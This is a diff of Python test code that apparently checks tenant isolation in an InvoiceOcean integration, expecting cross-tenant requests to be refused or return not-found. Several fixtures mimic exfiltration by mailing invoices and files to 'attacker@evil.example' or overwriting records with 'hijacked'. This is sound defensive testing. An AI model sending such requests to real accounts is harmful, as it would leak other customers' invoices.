@@ -257,6 +257,8 @@ def invoiceocean_cells(world: World) -> list[Cell]:
                 body = {"email_to": "attacker@evil.example", "force": True}
             elif name == "invoices.cancel":
                 body = {"cancel_reason": "hijacked"}
+            elif name == "invoices.attachment":
+                concrete += "?kind=peppol"
             cells.append(Cell("invoiceocean", f"{method} {path}", method, concrete, _allow("not_found"), body, fmt))
     # Mixed credentials: B's token under A's prefix, in the token and in the host.
     b_token = world.b["invoiceocean"]["api_token"].partition("/")[0]
@@ -340,7 +342,8 @@ def invo_queries(world: World) -> dict[tuple[str, str], list[tuple[dict[str, Any
         ("dictionaries", "add"): [({"what": "units", "c3": "B unit", "c4": "bu"}, own)],
         ("dictionaries", "edit"): [({"what": "units", "id": ids["unit"], "c3": "hijacked"}, gone)],
         ("dictionaries", "delete"): [({"what": "units", "id": ids["unit"]}, gone)],
-        ("files", "get"): [({"id": ids["invoice"]}, gone), ({"id": ids["scan"], "what": 1}, gone)],
+        ("files", "get"): [({"id": ids["invoice"]}, gone), ({"id": ids["scan"], "what": 1}, gone),
+                           ({"id": ids["invoice"], "what": 2}, gone)],
         ("files", "send"): [({"id": ids["invoice"], "email": "attacker@evil.example"}, gone)],
         ("files", "cost"): [({"id": ids["invoice"], "fname": "b.pdf", "ftype": ".pdf",
                               "file": base64.b64encode(b"%PDF-1.4 b").decode()}, refused)],
